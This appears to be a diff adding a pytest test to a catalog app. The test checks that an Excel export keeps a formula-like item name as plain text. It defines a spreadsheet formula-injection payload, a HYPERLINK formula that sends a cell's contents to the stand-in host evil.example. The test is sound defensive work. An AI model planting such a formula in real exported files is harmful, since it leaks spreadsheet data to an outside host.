@@ -255,3 +255,21 @@ def test_import_into_a_version_under_review_is_refused(world, tmp_path):
     services.version_submit(version=version, by=world.user("city", "team_leader"))
     with pytest.raises(ValidationError, match="只有草稿可以导入"):
         _import(version, world.user("city", "team_leader"), [])
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+
+
+def test_a_formula_like_value_is_exported_as_text(world, tmp_path):
+    """Formula injection: a name starting with "=" must open as text, never as a live formula."""
+    from tests.catalog.test_catalog_support import new_item
+
+    load_city(world, tmp_path)
+    version = draft(world, "city", change_reason="调整")
+    services.entry_add(version=version, by=world.user("city", "team_leader"),
+                       data=new_item("AIR-108-1", FORMULA), reason="新增")
+    content = excel.export_version(version)
+    ws = load_workbook(BytesIO(content)).active
+    cells = [c for row in ws.iter_rows() for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+    assert not [c for row in ws.iter_rows() for c in row if c.data_type == "f"]
